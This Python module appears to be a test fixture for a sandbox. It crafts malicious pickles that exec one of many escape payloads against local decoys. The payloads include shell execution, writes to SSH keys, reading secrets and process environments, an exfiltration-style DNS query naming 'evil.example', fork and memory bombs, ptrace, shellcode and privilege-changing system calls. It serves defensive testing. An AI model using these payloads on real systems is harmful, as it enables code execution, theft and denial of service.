"""What a file might try when it is loaded: each is Python that a pickle runs, and prints WON where it got what it wanted.

All of them are harmless outside the sandbox too: what is forked, filled or written is bounded, and lies in HOME.
HOME is a writable folder, SECRET a file of 31337 bytes that nobody here may read, VICTIM a process of the same user, PORT a
TCP port and UDP a UDP port that listen on 127.0.0.1, LIB a file that may be read.
"""

from __future__ import annotations

import contextlib
import os
import pickle
import re
import shutil
import socket
import subprocess
import sys
import threading
from typing import Self

from weighbridge.sandbox.abi import machine

PRELUDE = """
import os, sys, ctypes, struct
NR = {numbers}
LIBC = ctypes.CDLL(None, use_errno=True)
KEPT = []
def won(*what): os.write(1, ('WON %s\\n' % (what,)).encode())
def call(name, *a):
    r = LIBC.syscall(ctypes.c_long(NR[name]), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    if r < 0: raise OSError(ctypes.get_errno(), name)
    return r
def code(text, prot=7):
    import mmap
    m = mmap.mmap(-1, 4096, prot=prot)
    m.write(bytes.fromhex(text))
    KEPT.append(m)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
def flips(a, b, step, times=3000):
    import threading
    sys.setswitchinterval(1e-6)
    buffer = ctypes.create_string_buffer(max(len(a), len(b)) + 1)
    stop = []
    def turn():
        while not stop:
            ctypes.memmove(buffer, a + b'\\0', len(a) + 1)
            ctypes.memmove(buffer, b + b'\\0', len(b) + 1)
    t = threading.Thread(target=turn, daemon=True); t.start()
    for _ in range(times):
        try:
            if step(buffer): won('race'); break
        except OSError: pass
    stop.append(1)
"""

# The matrix of the design: programs, network, files, secrets, exhaustion, processes, kernel.
DESIGN = {
    "os.system": "os.system('touch HOME/ran')\nif os.path.exists('HOME/ran'): won()",
    "subprocess": "import subprocess\nwon(subprocess.check_output(['/usr/bin/id']))",
    "tcp connect": "import socket\ns = socket.create_connection(('127.0.0.1', PORT), 2); s.send(b'x'); won()",
    "http request": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:PORT/x?k=stolen', timeout=2); won()",
    "dns question": "import socket\ns = socket.socket(2, 2); s.connect(('127.0.0.1', UDP)); s.send(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6stolen\\4evil\\7example\\0\\0\\1\\0\\1'); won()",
    "udp send": "import socket\ns = socket.socket(2, 2); s.sendto(b'x', ('127.0.0.1', UDP)); won()",
    "abstract socket": "import socket\ns = socket.socket(1, 1); s.connect('\\0weighbridge-victim'); won()",
    "write to ssh keys": "os.makedirs('HOME/.ssh', exist_ok=True); open('HOME/.ssh/authorized_keys', 'a').write('k'); won()",
    "read a secret": "won(open('SECRET').read()[:9])",
    "secret in the environment": "won(os.environ['WEIGHBRIDGE_TEST_TOKEN'])",
    "environment of the parent": "d = open('/proc/%d/environ' % os.getppid(), 'rb').read(); won(d[:9]) if d else 0",
    "own descriptors": "for f in range(6, 60):\n try: os.fstat(f); won(f); break\n except OSError: pass",
    "fork bomb": "for i in range(40):\n p = os.fork()\n if p == 0:\n  import time; time.sleep(1); os._exit(0)\nwon(40)",
    "thread bomb": "import threading, time\nfor i in range(200): threading.Thread(target=time.sleep, args=(1,), daemon=True).start()\nwon(200)",
    "memory bomb": "b = []\nfor i in range(20): b.append(bytearray(b'x') * (1 << 26))\nwon('1.3 GB')",
    "processor loop": "import time\nt = time.time()\nwhile time.time() - t < 5: pass\nwon('5 s')",
    "sleep": "import time\ntime.sleep(12); won('12 s')",
    "output flood": "b = b'z' * 65536\nfor i in range(1024): os.write(1, b)\nopen('HOME/flooded', 'w'); won()",
    "disk fill": "f = open('HOME/fill', 'wb')\nfor i in range(32): f.write(b'x' * (1 << 20))\nwon('32 MB')",
    "kill another": "os.kill(VICTIM, 10); won()",
    "thread signal to another": "call('tgkill', VICTIM, VICTIM, 10); won()",
    "ptrace another": "r = LIBC.ptrace(16, VICTIM, 0, 0)\nif r == 0: won(); LIBC.ptrace(17, VICTIM, 0, 0)",
    "memory of another": "b = ctypes.create_string_buffer(8); v = (ctypes.c_ulong * 2)(ctypes.addressof(b), 8)\nm = open('/proc/VICTIM/maps').read().split('-')[0]\nw = (ctypes.c_ulong * 2)(int(m, 16), 8); call('process_vm_readv', VICTIM, v, 1, w, 1, 0); won()",
    "limits of another": "call('prlimit64', VICTIM, 7, struct.pack('QQ', 512, 512), None); won()",
    "affinity of another": "m = ctypes.c_ulong(1); call('sched_setaffinity', VICTIM, 8, ctypes.byref(m)); won()",
    "own memory by proc": "f = open('/proc/self/mem', 'r+b', 0); x = ctypes.create_string_buffer(b'A'); f.seek(ctypes.addressof(x)); f.write(b'B')\nif x.value == b'B': won()",
    "io_uring": "p = ctypes.create_string_buffer(120); won(call('io_uring_setup', 4, p))",
    "memfd and fexecve": "f = os.memfd_create('x'); os.write(f, open('/bin/true', 'rb').read())\np = os.fork()\nif p == 0:\n try: os.execve(f, ['x'], {})\n finally: os._exit(7)\nif os.waitpid(p, 0)[1] == 0: won()",
    "execve in place": "a = (ctypes.c_char_p * 4)(b'/bin/sh', b'-c', b'echo WON execve', None); call('execve', b'/bin/sh', a, None)",
    "shellcode in a writable page": "if code('b82a000000c3')() == 42: won()",
    "32-bit call": "r = code('b814000000cd80c3')()\nif r > 0: won(r)",
    "x32 call": "r = LIBC.syscall(ctypes.c_long(0x40000000 | 39))\nif r > 0: won(r)",
    "drop a library": "open('HOME/evil.so', 'wb').write(b'\\x7fELF'); won()",
    "symlink": "os.symlink('/etc/passwd', 'HOME/link%d' % os.getpid()); won()",
    "hard link": "os.link('HOME/victim', 'HOME/hard%d' % os.getpid()); won()",
    "change rights": "os.chmod('HOME/victim', 0o777); won()",
    "change times": "os.utime('HOME/victim', (1, 1)); won()",
    "unlink": "os.unlink('HOME/victim2'); won()",
    "truncate": "os.truncate('HOME/victim3', 0); won()",
    "look at a file": "won(os.stat('HOME/victim').st_size)",
    "list a folder": "won(len(os.listdir('HOME')))",
    "user namespace": "call('unshare', 0x10000000); won()",
    "mount": "call('mount', b'none', b'HOME', b'tmpfs', 0, None); won(); call('umount2', b'HOME', 0)",
    "bpf": "won(call('bpf', 0, ctypes.create_string_buffer(struct.pack('IIIII', 2, 4, 8, 1, 0) + b'\\0' * 60), 72))",
    "keyring": "won(call('keyctl', 0, -3, 1))",
    "perf events": "b = ctypes.create_string_buffer(struct.pack('IIQ', 1, 112, 0) + b'\\0' * 96); won(call('perf_event_open', b, 0, -1, -1, 0))",
    "userfaultfd": "won(call('userfaultfd', 1))",
    "shared memory of System V": "won(call('shmget', 0, 4096, 0o1600))",
    "terminal injection": "import fcntl\nfcntl.ioctl(0, 0x5412, b'x'); won()",
    "open without the io module": "os.read(os.open('SECRET', 0), 9) and won()",
    "libc's system()": "LIBC.system(b'touch HOME/libc')\nif os.path.exists('HOME/libc'): won()",
}

# What somebody would try who has read the design.
OURS = {
    "race on openat": "def step(b):\n f = call('openat', -100, b, 0, 0)\n try: return b'CONFIDENTIAL' in os.read(f, 64)\n finally: os.close(f)\nflips(b'LIB', b'SECRET', step)",
    "race on stat": "s = ctypes.create_string_buffer(256)\ndef step(b):\n call('newfstatat', -100, b, s, 0)\n return 31337 in struct.unpack('<32q', s.raw)\nflips(b'LIB', b'SECRET', step)",
    "race on access": "def step(b):\n call('faccessat', -100, b, 4, 0)\n return b.value == b'SECRET' and False\nflips(b'LIB', b'SECRET', step, 500)\nopen('SECRET') and won()",
    "race on connect": "import socket\ns = socket.socket(2, 1)\na = struct.pack('<H', 2) + struct.pack('>H', PORT) + bytes([127, 0, 0, 1]) + b'\\0' * 8\ncall('connect', s.fileno(), a, 16); won()",
    "open for the path alone": "f = os.open('SECRET', 0o10000000)\nif os.fstat(f).st_size == 31337: won()",
    "out of a library folder": "import os.path\nd = os.open(os.path.dirname('LIB'), 0); f = call('openat', d, os.path.relpath('SECRET', os.path.dirname('LIB')).encode(), 0, 0); won(os.read(f, 9))",
    "parent of a library folder": "d = os.open(os.path.dirname('LIB'), 0); f = call('openat', d, b'../../../../../../../../', 0, 0); won(os.listdir(f))",
    "dots in the path": "import os.path\nwon(open(os.path.dirname('LIB') + '/../../../../../../../../../..' + 'SECRET').read(9))",
    "handle of a file": "h = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + b'\\0' * 128); m = ctypes.c_int(); call('name_to_handle_at', -100, b'SECRET', h, ctypes.byref(m), 0); won()",
    "execveat of a memfd": "f = call('memfd_create', b'x', 0); os.write(f, b'#!/bin/sh\\necho WON execveat\\n'); a = (ctypes.c_char_p * 2)(b'x', None); call('execveat', f, b'', a, None, 0x1000)",
    "execveat of the output": "os.write(4, b'#!/bin/sh\\necho WON execveat\\n'); a = (ctypes.c_char_p * 2)(b'x', None); call('execveat', 4, b'', a, None, 0x1000)",
    "own program again": "os.execv('/proc/self/exe', ['python', '-c', 'print(\"WON exe\")'])",
    "model opened for writing": "f = os.open('/proc/self/fd/3', os.O_RDWR); os.write(f, b'x'); won()",
    "writing to the model": "os.write(3, b'x'); won()",
    "root by proc": "won(open('/proc/self/root' + 'SECRET').read(9))",
    "environment of the first process": "won(open('/proc/1/environ', 'rb').read(9))",
    "shared memory folder": "open('/dev/shm/weighbridge-test', 'w').write('x'); os.unlink('/dev/shm/weighbridge-test'); won()",
    "descriptor over the channel": "import socket, array\ns = socket.socket(fileno=os.dup(5)); s.sendmsg([b'x'], [(1, 1, array.array('i', [3]))]); won()",
    "descriptor over a new pair": "import socket, array\na, b = socket.socketpair(); a.sendmsg([b'x'], [(1, 1, array.array('i', [3]))]); won()",
    "descriptor of another": "f = call('pidfd_open', VICTIM, 0); won(call('pidfd_getfd', f, 0, 0))",
    "signal by descriptor": "f = call('pidfd_open', VICTIM, 0); call('pidfd_send_signal', f, 10, None, 0); won()",
    "second listener": "p = struct.pack('HBBI', 6, 0, 0, 0x7fff0000); b = ctypes.create_string_buffer(p); s = struct.pack('HxxxxxxQ', 1, ctypes.addressof(b)); won(call('seccomp', 1, 8, s))",
    "strict mode": "call('prctl', 22, 1, 0, 0, 0); won()",
    "tracer for everybody": "call('prctl', 0x59616d61, -1, 0, 0, 0); won()",
    "dumpable again": "call('prctl', 4, 0, 0, 0, 0); won()",
    "memory map of the process": "call('prctl', 35, 1, 4096, 0, 0); won()",
    "keep capabilities": "call('prctl', 8, 1, 0, 0, 0); won()",
    "all capabilities": "call('capset', struct.pack('Ii', 0x20080522, 0), struct.pack('6I', *[0xffffffff, 0xffffffff, 0, 0x1ff, 0x1ff, 0])); won()",
    "another user": "call('setresuid', 65534, 65534, 65534); won()",
    "clone into a user namespace": "r = call('clone', 0x10000000 | 17, 0, 0, 0, 0)\nif r == 0: os._exit(0)\nos.waitpid(r, 0); won()",
    "clone3": "a = struct.pack('8Q', 0, 0, 0, 0, 17, 0, 0, 0); r = call('clone3', a, 64)\nif r == 0: os._exit(0)\nwon()",
    "sibling process": "r = call('clone', 0x8000 | 17, 0, 0, 0, 0)\nif r == 0: os._exit(0)\nwon()",
    "network namespace": "call('unshare', 0x40000000); won()",
    "namespace of another": "f = os.open('/proc/1/ns/net', 0); call('setns', f, 0); won()",
    "virtual socket": "import socket\ns = socket.socket(40, 1); won()",
    "netlink": "import socket\ns = socket.socket(16, 3, 0); s.bind((0, 0)); won()",
    "raw packets": "import socket\ns = socket.socket(17, 3, 3); won()",
    "crypto sockets": "import socket\ns = socket.socket(38, 5, 0); won()",
    "listening socket": "import socket\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); won(s.getsockname())",
    "add a key": "won(call('add_key', b'user', b'weighbridge-test', b'x', 1, -3))",
    "request a key": "won(call('request_key', b'user', b'x', None, -3))",
    "watch files": "f = call('inotify_init1', 0); won(call('inotify_add_watch', f, b'HOME', 0xfff))",
    "watch the file system": "won(call('fanotify_init', 0, 0))",
    "load a kernel module": "call('finit_module', 3, b'', 0); won()",
    "kernel log": "b = ctypes.create_string_buffer(64); won(call('syslog', 3, b, 64))",
    "host name": "n = os.uname().nodename.encode(); call('sethostname', n, len(n)); won()",
    "clock": "call('clock_settime', 0, struct.pack('qq', -1, -1)); won()",
    "new root": "call('chroot', b'HOME'); won()",
    "mount interface": "won(call('fsopen', b'tmpfs', 0))",
    "tree of mounts": "won(call('open_tree', -100, b'/', 1))",
    "ports of the machine": "call('ioperm', 0x80, 1, 1); won()",
    "descriptor table": "b = ctypes.create_string_buffer(16); call('modify_ldt', 1, b, 16); won()",
    "readable means executable": "call('personality', 0x0400000); won()",
    "memory made executable": "import mmap\nm = mmap.mmap(-1, 4096, prot=3); m.write(bytes.fromhex('b82a000000c3')); a = ctypes.addressof(ctypes.c_char.from_buffer(m)); call('mprotect', a, 4096, 5)\nif ctypes.CFUNCTYPE(ctypes.c_int)(a)() == 42: won()",
    "output mapped as code": "import mmap\nos.write(4, bytes.fromhex('b82a000000c3') + b'\\0' * 5000); r = LIBC.mmap; r.restype = ctypes.c_void_p; a = r(None, 4096, 5, 1, 4, 0)\nif a not in (None, 2**64 - 1) and ctypes.CFUNCTYPE(ctypes.c_int)(a)() == 42: won()",
    "library from the output": "os.write(4, open('LIB', 'rb').read(4096)); ctypes.CDLL('/proc/self/fd/4'); won()",
    "shared memory bomb": "import mmap\nb = []\nfor i in range(20):\n m = mmap.mmap(-1, 1 << 26); m.write(b'x' * (1 << 26)); b.append(m)\nwon('1.3 GB')",
    "output bomb": "os.ftruncate(4, 1 << 40); won()",
    "descriptor bomb": "b = [os.pipe() for i in range(2000)]; won(len(b))",
    "answer flood": "b = b'z' * 65536\nfor i in range(1024): os.write(5, b)\nopen('HOME/flooded', 'w'); won()",
    "signal to everybody": "os.kill(-1, 0); won()",
    "signal to the group": "os.kill(0, 0); won()",
    "queued signal": "call('rt_sigqueueinfo', VICTIM, 10, ctypes.create_string_buffer(128)); won()",
    "signal by a pipe": "import fcntl\nr, w = os.pipe(); fcntl.fcntl(r, 8, VICTIM); fcntl.fcntl(r, 10, 10); won()",
    "signal by a timer": "s = struct.pack('QiiI', 0, 10, 4, VICTIM) + b'\\0' * 44; t = ctypes.c_int(); call('timer_create', 1, s, ctypes.byref(t)); won()",
    "alarm": "import signal\nsignal.setitimer(signal.ITIMER_REAL, 5); won()",
    "session of its own": "os.setsid(); won()",
    "daemon that stays": "p = os.fork()\nif p == 0:\n import time; time.sleep(1); os._exit(0)\nwon()",
    "vfork and execve": "import _posixsubprocess, subprocess\nsubprocess.run(['/bin/true'], check=True); won()",
    "comparing processes": "won(call('kcmp', os.getpid(), VICTIM, 2, 0, 0))",
    "advice to another": "f = call('pidfd_open', VICTIM, 0); v = (ctypes.c_ulong * 2)(4096, 4096); won(call('process_madvise', f, v, 1, 20, 0))",
    "pages of another": "won(call('migrate_pages', VICTIM, 0, None, None))",
    "robust list of another": "a, b = ctypes.c_void_p(), ctypes.c_size_t(); call('get_robust_list', VICTIM, ctypes.byref(a), ctypes.byref(b)); won()",
    "real-time priority": "call('sched_setscheduler', 0, 1, struct.pack('i', 1)); won()",
    "priority of another": "call('setpriority', 0, VICTIM, 19); won()",
    "input and output priority": "call('ioprio_set', 1, VICTIM, 0x6000); won()",
    "message queue": "won(call('mq_open', b'weighbridge-test', 0o102, 0o600, None)); call('mq_unlink', b'weighbridge-test')",
    "semaphores": "won(call('semget', 0, 1, 0o1600))",
    "attributes of a file": "b = ctypes.create_string_buffer(64); call('listxattr', b'SECRET', b, 64); won()",
    "size of a file system": "b = ctypes.create_string_buffer(256); call('statfs', b'HOME', b); won()",
    "new special file": "os.mkfifo('HOME/pipe%d' % os.getpid()); won()",
    "rename": "os.rename('HOME/victim', 'HOME/victim'); won()",
    "other folder": "os.chdir('HOME'); won()",
    "hidden by a thread": "import threading\nt = threading.Thread(target=lambda: won(open('SECRET').read(9))); t.start(); t.join()",
    "import from a writable folder": "sys.path.insert(0, 'HOME'); import planted; won()",
    "x32 execve": "a = (ctypes.c_char_p * 4)(b'/bin/sh', b'-c', b'echo WON x32', None); LIBC.syscall(ctypes.c_long(0x40000000 | 520), b'/bin/sh', a, None)",
    "asynchronous reads": "c = ctypes.c_ulong(); won(call('io_setup', 1, ctypes.byref(c)))",
    "zero-copy from the page cache": "r, w = os.pipe(); won(call('splice', 3, None, w, None, 16, 0))",
    "memory without a name": "won(call('memfd_create', b'x', 0))",
    "secret memory": "won(call('memfd_secret', 0))",
    "output allocated": "call('fallocate', 4, 0, 0, 1 << 30); won()",
}
PAYLOADS = {**DESIGN, **OURS}
# What sleeps, spins or fills: how long it may take decides, and the bound ends it.
ENDLESS = frozenset({"processor loop", "sleep"})


class Does:
    """Runs code where it is unpickled."""

    def __init__(self, text):
        self.text = text

    def __reduce__(self):
        return exec, (self.text, {})


def pickled(name: str, places: dict[str, object]) -> bytes:
    """The payload as a pickle, with the places filled in."""
    text = PRELUDE.replace("{numbers}", repr(dict(machine().numbers))) + PAYLOADS[name]
    filled = re.sub(rf"\b({'|'.join(places)})\b", lambda match: str(places[match[1]]), text)
    return pickle.dumps(Does(filled), 2)


class Scene:
    """Everything that the payloads reach for, in one folder; a context."""

    def __init__(self, folder: str) -> None:
        self.home = os.path.join(folder, "home")
        self.secret = os.path.join(folder, "secret")
        os.makedirs(self.home, exist_ok=True)
        self.sockets = [socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]
        self.sockets[1].bind(("127.0.0.1", 0))
        threading.Thread(target=self._answer, daemon=True).start()
        if sys.platform == "linux":
            abstract = socket.socket(socket.AF_UNIX)
            with contextlib.suppress(OSError):
                abstract.bind("\0weighbridge-victim")
                abstract.listen(8)
            self.sockets.append(abstract)
        self.victim = None

    def _answer(self) -> None:
        while True:
            try:
                one, _ = self.sockets[0].accept()
            except OSError:
                return
            with one, contextlib.suppress(OSError):
                one.settimeout(1)
                one.recv(1024)
                one.sendall(b"HTTP/1.0 200 OK\r\n\r\n")

    def laid(self, name: str) -> str:
        """The file of one payload, with everything back in its place."""
        with open(self.secret, "wb") as file:
            file.write(b"CONFIDENTIAL".ljust(31337, b"."))
        for one in os.listdir(self.home):
            path = os.path.join(self.home, one)
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            else:
                os.unlink(path)
        for one in ("victim", "victim2", "victim3"):
            with open(os.path.join(self.home, one), "w") as file:
                file.write("x")
        with open(os.path.join(self.home, "planted.py"), "w") as file:
            file.write("")
        if self.victim is None or self.victim.poll() is not None:
            code = "import signal, time; signal.signal(10, signal.SIG_IGN); time.sleep(600)"
            self.victim = subprocess.Popen([sys.executable, "-I", "-S", "-c", code])
        places = {
            "HOME": self.home,
            "SECRET": self.secret,
            "VICTIM": self.victim.pid,
            "PORT": self.sockets[0].getsockname()[1],
            "UDP": self.sockets[1].getsockname()[1],
            "LIB": os.path.realpath(os.__file__),
        }
        path = os.path.join(os.path.dirname(self.home), "payload.pkl")
        with open(path, "wb") as file:
            file.write(pickled(name, places))
        return path

    def close(self) -> None:
        for one in self.sockets:
            one.close()
        if self.victim is not None:
            self.victim.kill()
            self.victim.wait()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()
